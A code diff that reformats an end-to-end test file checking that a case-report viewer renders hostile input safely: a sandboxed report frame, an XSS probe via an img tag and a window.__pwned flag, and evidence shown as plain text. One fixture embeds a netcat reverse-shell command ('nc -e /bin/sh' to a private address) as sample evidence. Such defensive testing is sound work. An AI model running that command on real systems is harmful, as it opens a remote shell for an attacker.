@@ -40,7 +40,9 @@ describe('Case tab in web mode', () => {
     await frame.waitFor();
     expect(await frame.getAttribute('sandbox')).toBe('');
     const inner = page.frameLocator('[data-testid="report-frame"]');
-    await expect.poll(() => inner.locator('h1').textContent(), { timeout: 15_000 }).toBe(`Case report: Case ${HOSTILE}`);
+    await expect
+      .poll(() => inner.locator('h1').textContent(), { timeout: 15_000 })
+      .toBe(`Case report: Case ${HOSTILE}`);
     expect(await inner.locator('img').count()).toBe(0);
     expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
 
@@ -73,7 +75,10 @@ describe('Case tab in web mode', () => {
     await expect.poll(() => page.getByTestId('case-title').textContent()).toBe('Second case');
     const options = await page.getByTestId('case-picker').locator('option').allTextContents();
     expect(options).toHaveLength(2);
-    const first = await page.getByTestId('case-picker').locator('option', { hasText: 'Case <img' }).getAttribute('value');
+    const first = await page
+      .getByTestId('case-picker')
+      .locator('option', { hasText: 'Case <img' })
+      .getAttribute('value');
     await page.getByTestId('case-picker').selectOption(first!);
     await expect.poll(() => page.getByTestId('case-title').textContent()).toBe(`Case ${HOSTILE}`);
   }, 120_000);
@@ -81,10 +86,16 @@ describe('Case tab in web mode', () => {
   it('opens an offline bundle as a read-only case and shows its recorded evidence as text', async () => {
     const result = makeScan(makeFindings(6));
     const bundle = path.join(app.dataDir, 'remote.tar.gz');
-    await writeBundle(bundle, { result, evidence: makeEvidence(result, `nc -e /bin/sh 10.0.0.9 4444 ${HOSTILE}`), createdBy: 'remote-analyst' });
+    await writeBundle(bundle, {
+      result,
+      evidence: makeEvidence(result, `nc -e /bin/sh 10.0.0.9 4444 ${HOSTILE}`),
+      createdBy: 'remote-analyst',
+    });
     await page.getByTestId('case-bundle-path').fill(bundle);
     await page.getByTestId('case-bundle-path').press('Enter');
-    await expect.poll(() => page.locator('.cv-status', { hasText: 'read-only bundle' }).count(), { timeout: 30_000 }).toBe(1);
+    await expect
+      .poll(() => page.locator('.cv-status', { hasText: 'read-only bundle' }).count(), { timeout: 30_000 })
+      .toBe(1);
     expect(await page.getByTestId('case-add-scan').isDisabled()).toBe(true);
     const panel = page.getByTestId('case-evidence');
     await panel.waitFor({ timeout: 30_000 });
